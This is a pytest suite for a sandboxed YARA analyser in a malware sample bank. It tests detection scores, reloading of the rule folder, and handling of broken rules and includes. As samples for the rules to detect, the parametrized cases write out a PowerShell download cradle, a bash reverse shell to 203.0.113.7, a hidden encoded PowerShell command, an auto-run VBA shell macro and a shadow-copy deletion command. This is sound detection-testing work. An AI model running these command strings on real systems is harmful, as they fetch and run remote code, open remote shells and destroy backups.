"""The YARA analyser in its sandbox, with the shipped rules and with rules of one's own."""

import os
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest

from samplebank.sandbox import SandboxError
from samplebank.worker.analysers import BUILT_IN
from samplebank.worker.analysers.testing import analysed, sample_file
from samplebank.worker.contract import Detection, Result, Tag
from samplebank.worker.sandboxed import SandboxedAnalyser
from worker import made_files

Analyse = Callable[[bytes], Awaitable[Result]]

SHIPPED_RULES = Path(__file__).parents[2] / "src" / "samplebank" / "worker" / "rules"
RULE = 'rule %s { meta: score = %d family = "Staged" strings: $a = "needle" condition: $a }'


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    return folder


@pytest.fixture
async def own_rules(rules: Path, tmp_path: Path) -> AsyncIterator[SandboxedAnalyser]:
    opened = await SandboxedAnalyser.open(
        BUILT_IN["yara"], samples=tmp_path, settings={"yara_rules": str(rules)}
    )
    async with opened as analyser:
        yield analyser


@pytest.fixture
def sample(tmp_path: Path) -> Path:
    path = tmp_path / "sample"
    path.write_bytes(b"a needle in a haystack")
    return path


async def test_the_test_virus_is_malicious(yara: Analyse) -> None:
    result = await yara(made_files.EICAR.encode())

    assert result.score == 100
    assert result.detections == [Detection("EICAR_Test_File", "malicious")]
    assert result.tags == [Tag("yara", "EICAR_Test_File"), Tag("family", "EICAR")]


def test_the_shipped_rules_do_not_contain_the_test_virus() -> None:
    shipped = "".join(path.read_text() for path in SHIPPED_RULES.iterdir())

    assert "EICAR" in shipped
    assert made_files.EICAR not in shipped


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        pytest.param(made_files.packed(), "UPX_Packed_PE", id="upx"),
        pytest.param(
            made_files.importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"),
            "Process_Injection_Imports",
            id="injection",
        ),
        pytest.param(b"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/')",
                     "PowerShell_Download_Cradle", id="cradle"),
        pytest.param(b"powershell.exe -w hidden -enc " + b"QQBB" * 20, "PowerShell_Encoded_Command", id="encoded"),
        pytest.param(("powershell.exe -enc " + "QQBB" * 20).encode("utf-16-le"),
                     "PowerShell_Encoded_Command", id="wide"),
        pytest.param(b"bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "Shell_Reverse_Shell", id="reverse shell"),
        pytest.param(b'Sub AutoOpen()\nShell ("calc.exe")\nEnd Sub', "VBA_Auto_Open_And_Shell", id="vba"),
        pytest.param(made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"), "PDF_Launch_Action", id="pdf"),
        pytest.param(made_files.word(word__vbaProject_dot_bin="x"), "Office_Macro_Document", id="macros"),
        pytest.param(b"vssadmin delete shadows /all /quiet", "Ransom_Shadow_Copy_Removal", id="ransom"),
    ],
)  # fmt: skip
async def test_the_shipped_rules_find_what_they_are_for(yara: Analyse, content: bytes, rule: str) -> None:
    result = await yara(content)

    assert rule in {tag.value for tag in result.tags}


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(made_files.launcher(), id="launcher"),
        pytest.param(Path("/bin/ls").read_bytes(), id="ls"),
        pytest.param(made_files.pdf("<< /Type /Catalog >>"), id="pdf"),
        pytest.param(b"plain words " * 500, id="text"),
    ],
)
async def test_nothing_is_found_in_harmless_files(yara: Analyse, content: bytes) -> None:
    result = await yara(content)

    assert (result.score, result.detections) == (-1, [])
    assert result.possible_detections


async def test_the_score_is_that_of_the_worst_rule(
    own_rules: SandboxedAnalyser, rules: Path, sample: Path
) -> None:
    (rules / "two.yar").write_text(RULE % ("Mild", 20) + RULE % ("Grave", 77))

    result = await own_rules.analyse(sample_file(sample))

    assert result.score == 77
    assert [found["patterns"][0]["offsets"] for found in result.result["rules"]] == [[2], [2]]


async def test_a_changed_folder_is_seen_before_the_next_scan(
    own_rules: SandboxedAnalyser, rules: Path, sample: Path
) -> None:
    before = await own_rules.analyse(sample_file(sample))
    (rules / "new.yara").write_text(RULE % ("New", 60))

    after = await own_rules.analyse(sample_file(sample))

    assert (before.score, after.score) == (-1, 60)


async def test_a_broken_rule_file_leaves_the_others_in_force(
    own_rules: SandboxedAnalyser, rules: Path, sample: Path
) -> None:
    (rules / "broken.yar").write_text("rule {")
    (rules / "good.yar").write_text(RULE % ("Good", 50))

    result = await own_rules.analyse(sample_file(sample))

    assert result.score == 50
    assert set(result.result["brokenRuleFiles"]) == {"broken.yar"}


async def test_a_missing_rules_folder_is_named(tmp_path: Path, sample: Path) -> None:
    missing = tmp_path / "nowhere"

    with pytest.raises(SandboxError, match="nowhere, which is not a folder"):
        await analysed(BUILT_IN["yara"], sample, settings={"yara_rules": str(missing)})


async def test_a_rule_cannot_include_files(own_rules: SandboxedAnalyser, rules: Path, sample: Path) -> None:
    (rules / "include.yar").write_text(f'include "{os.devnull}"')

    result = await own_rules.analyse(sample_file(sample))

    assert set(result.result["brokenRuleFiles"]) == {"include.yar"}
